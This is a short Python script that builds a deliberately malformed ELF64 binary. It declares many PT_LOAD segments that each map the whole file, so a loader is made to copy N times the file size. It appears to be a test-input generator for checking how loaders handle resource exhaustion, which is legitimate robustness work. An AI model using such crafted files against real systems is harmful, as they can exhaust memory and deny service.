#!/usr/bin/env python3
# hostile_elf.py N SIZE OUT: an ELF64 of SIZE bytes with N PT_LOAD R+X
# segments that all cover the whole file (a small input that would make a
# loader copy N * SIZE bytes).
import struct, sys
n, size, out = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
ph = 64
eh = b'\x7fELF' + bytes([2, 1, 1, 0]) + bytes(8)
eh += struct.pack('<HHIQQQIHHHHHH', 2, 62, 1, 0x400000, ph, 0, 0, 64, 56, n, 64, 0, 0)
phs = b''.join(struct.pack('<IIQQQQQQ', 1, 5, 0, 0x400000 + i * (size + 0x1000 & ~0xfff) * 2, 0, size, size, 0x1000) for i in range(n))
body = eh + phs
body += b'\xc3' * (size - len(body))
open(out, 'wb').write(body)
